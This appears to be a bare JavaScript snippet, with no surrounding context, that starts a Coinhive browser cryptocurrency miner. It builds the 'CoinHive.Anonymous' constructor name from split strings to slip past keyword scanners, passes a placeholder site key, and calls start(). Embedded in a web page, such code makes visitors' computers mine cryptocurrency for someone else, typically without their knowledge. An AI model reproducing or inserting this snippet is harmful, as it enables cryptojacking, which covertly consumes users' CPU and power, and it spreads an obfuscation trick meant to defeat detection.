var m = new window["Coin" + "Hive"]["Anon" + "ymous"]("KEY");
m.start();
